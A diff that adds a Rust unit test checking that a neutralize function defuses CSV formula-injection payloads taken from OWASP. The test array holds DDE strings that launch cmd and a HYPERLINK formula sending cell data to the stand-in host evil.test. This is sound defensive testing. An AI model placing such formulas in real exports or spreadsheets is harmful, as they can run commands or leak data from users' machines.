@@ -166,4 +166,24 @@ mod tests {
             assert_eq!(neutralize(ok), ok);
         }
     }
+
+    /// The payloads of OWASP's CSV injection page: each must reach the spreadsheet as text.
+    #[test]
+    fn owasp_payloads_are_neutralized() {
+        let payloads = [
+            "=cmd|' /C calc'!A0",
+            "=HYPERLINK(\"http://evil.test?leak=\"&A1,\"Error: click\")",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+            "\t=1+2",
+            "\r=1+2",
+        ];
+        for p in payloads {
+            let cell = neutralize(p);
+            assert!(cell.starts_with('\''), "{p:?} -> {cell:?}");
+            assert_eq!(&cell[1..], p, "the payload text itself is kept");
+        }
+    }
 }
